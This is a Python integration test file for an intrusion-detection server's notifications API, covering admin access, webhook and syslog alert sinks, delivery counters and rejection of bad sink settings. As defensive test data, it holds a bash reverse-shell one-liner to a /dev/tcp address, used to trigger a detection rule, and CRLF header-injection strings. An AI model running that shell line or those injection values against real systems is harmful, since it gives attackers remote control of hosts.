"""The notifications API (admins): sinks to a real HTTP receiver and a real syslog socket, counters, bad input."""

from __future__ import annotations

import json
import socket

import anyio
import pytest

from tests.integration._manager import check_schema
from tests.unit.server._inproc import api_client, ingest, running_server
from tests.unit.server.notify._receivers import HttpReceiver

pytestmark = pytest.mark.anyio


@pytest.fixture
async def server(tmp_path):
    async with running_server(tmp_path / "srv") as ctx:
        async with api_client(ctx, "analyst") as analyst, api_client(ctx) as admin:
            yield ctx, analyst, admin, (await admin.get("/api/v1/openapi.json")).json()


async def test_sinks_set_through_the_api_receive_new_alerts(server):
    ctx, analyst, admin, doc = server
    assert (await analyst.get("/api/v1/notifications")).status_code == 403
    with HttpReceiver() as rx, socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        udp.bind(("127.0.0.1", 0))
        udp.settimeout(20)
        sinks = [{"url": rx.url, "name": "soc", "headers": {"X-Token": "s3cret"}},
                 {"url": f"syslog+udp://127.0.0.1:{udp.getsockname()[1]}?min_severity=high&facility=auth"}]  # fmt: skip
        r = await admin.put("/api/v1/notifications", json={"sinks": sinks})
        assert r.status_code == 200, r.text
        check_schema(doc, "Notifications", r.json())
        assert [(s["name"], s["source"], s["headers"]) for s in r.json()["sinks"]] == [
            ("soc", "api", ["X-Token"]), (f"syslog+udp:127.0.0.1:{udp.getsockname()[1]}", "api", [])]
        assert "s3cret" not in r.text
        shell = {"exe": "/usr/bin/bash", "argv": "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", "pid": "5"}
        await ingest(ctx, "h1", [[(59, shell)]], hostname="web-9")
        datagram = await anyio.to_thread.run_sync(udp.recv, 65535)
        with anyio.fail_after(20):
            while not rx.requests:
                await anyio.sleep(0.05)
    assert datagram.startswith(b"<34>1 ") and b'rule_id="reverse_shell_dev_tcp"' in datagram and b"web-9" in datagram
    body = json.loads(rx.requests[0]["body"])
    assert body["type"] == "elkeid.alert" and body["alert"]["event"]["argv"] == shell["argv"]
    assert body["alert"]["id"] >= 1 and rx.requests[0]["headers"]["X-Token"] == "s3cret"
    stats = (await admin.get("/api/v1/notifications")).json()
    assert stats["totals"]["sent"] == 2 and stats["totals"]["dropped"] == 0
    assert (await admin.get("/api/v1/engine/status")).json()["notifications"]["totals"]["sent"] == 2


async def test_test_alerts_and_bad_sinks(server):
    ctx, analyst, admin, doc = server
    for body, message in [
        ({"sinks": [{"url": "ftp://x"}]}, "scheme must be"),
        ({"sinks": [{"url": "https://x", "headers": {"Bad Header": "v"}}]}, "must be an HTTP header name"),
        ({"sinks": [{"url": "https://x", "headers": {"X-A": "a\\r\\nInjected: 1"}}]}, None),
        ({"sinks": [{"url": "https://x", "headers": {"X-A": 5}}]}, "must be an HTTP header name"),
        ({"sinks": [{"url": "https://x/a"}, {"url": "https://x/b"}]}, "two sinks are named 'webhook:x'"),
        ({"sinks": [{"url": "https://x"}] * 33}, "too long"),
        ({"sinks": [{"name": "x"}]}, "field sinks[0].url is required"),
        ({}, "field sinks is required"),
    ]:  # fmt: skip
        if message is None:  # a JSON string cannot smuggle a header line: \\r\\n stays literal text
            assert (await admin.put("/api/v1/notifications", json=body)).status_code == 200
            continue
        r = await admin.put("/api/v1/notifications", json=body)
        assert r.status_code == 400 and message in r.json()["error"]["message"], (body, r.text)
    r = await admin.put("/api/v1/notifications", json={"sinks": [{"url": "https://x", "headers": {"X-A": "a\r\nB: c"}}]})
    assert r.status_code == 400 and "one line" in r.json()["error"]["message"]
    with HttpReceiver() as rx:
        assert (await admin.put("/api/v1/notifications", json={"sinks": [{"url": rx.url}]})).status_code == 200
        r = await admin.post("/api/v1/notifications/test", json={"severity": "critical"})
        assert r.status_code == 200
        with anyio.fail_after(20):
            while not rx.requests:
                await anyio.sleep(0.05)
    assert json.loads(rx.requests[0]["body"])["alert"]["rule_id"] == "elkeid.test"
    assert (await admin.put("/api/v1/notifications", json={"sinks": []})).json()["sinks"] == []
